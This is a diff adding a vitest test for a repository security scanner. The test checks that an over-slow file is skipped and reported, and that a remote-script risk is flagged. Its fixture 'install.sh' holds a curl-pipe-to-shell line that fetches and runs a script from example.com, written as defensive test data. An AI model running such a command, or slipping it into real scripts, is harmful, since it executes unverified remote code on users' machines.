@@ -1,0 +1,48 @@
+import { join } from 'node:path';
+import { createRepositoryChain } from '@signalbox/jobs/jobs/repository-chain';
+import { ScanProcess } from '@signalbox/jobs/repository/scan/scan-process';
+import type { JobContext } from '@signalbox/jobs/runner/handlers';
+import { createLog } from '@signalbox/platform/log';
+import { createChainRuns } from '@signalbox/store/repository/chain-runs';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { loadTestConfig } from '../../support/config.ts';
+import { openRepositoryBench, type RepositoryBench } from './repository-bench.ts';
+
+let bench: RepositoryBench;
+beforeAll(async () => {
+  bench = await openRepositoryBench({ isServed: false });
+});
+afterAll(() => bench.close());
+
+it('a file that takes too long is left out and named, and the rest of the repository is scanned', async () => {
+  const commit = bench.commit({
+    // A megabyte of these takes some seconds.
+    'hostile.sh': 'curl http://'.repeat(80_000),
+    'install.sh': 'curl http://example.com/install.sh | sh\n',
+  });
+  const { pool } = bench.jobs;
+  const chain = createRepositoryChain({
+    pool,
+    runs: createChainRuns(pool),
+    findings: bench.findings,
+    log: createLog('test', 'silent'),
+    path: loadTestConfig().path,
+    startScan: (place, signal) => new ScanProcess(place, { cell: null, signal, fileMs: 600 }),
+  });
+  const context = {
+    runId: 'r1',
+    owner: null,
+    signal: AbortSignal.timeout(50_000),
+    progress: () => Promise.resolve(),
+    tell: () => Promise.resolve(),
+  } as unknown as JobContext; // what the handler touches of it
+  const fetched = { mirror: join(bench.folder, '.git'), commit, folder: null, problem: null };
+  const result = await chain.run(
+    { project: 'shop', chain: 'security_scan', ref: 'HEAD', isDry: false, fetched },
+    context,
+  );
+  expect(result).toMatchObject({ status: 'completed', left: [] });
+  expect(result.unseen).toContain('hostile.sh, which took too long to read');
+  expect(result.unseen.join()).not.toContain('install.sh');
+  expect(await bench.list()).toContainEqual(expect.stringMatching(/risk\/remote-script install\.sh/));
+});
